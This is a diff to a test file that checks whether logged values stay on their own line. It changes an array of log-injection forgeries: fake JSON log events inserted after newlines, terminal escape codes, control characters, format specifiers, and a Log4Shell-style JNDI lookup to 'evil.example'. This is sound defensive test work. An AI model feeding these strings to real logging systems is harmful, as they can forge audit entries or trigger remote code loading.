@@ -7,7 +7,7 @@ import { capture } from './helpers/log.ts'
 
 const forgeries = [
   '\n{"level":30,"event":"code_issued","reason":"ok","externalId":"admin"}', '\r\n{"event":"token_issued"}', '"}\n{"event":"token_issued","x":"', '\u001b[2J\u001b[1;31mroot', '\u001b]0;evil\u0007', '\u0000', '\u2028\u2029',
-  '\u202etxet', '\b\b\b\b', '","event":"user_information_returned","x":"', '${jndi:ldap://evil.example/a}', '%s%n%d%o%j', '\\u000a', '%0a%0d', 'a\u0085b', '\u009b31m'
+  '\u202etxet', '\b\b\b\b', '","event":"user_information_returned","x":"', '$' + '{jndi:ldap://evil.example/a}', '%s%n%d%o%j', '\\u000a', '%0a%0d', 'a\u0085b', '\u009b31m'
 ]
 
 await t.test('whatever is logged stays on its line', async (t) => {
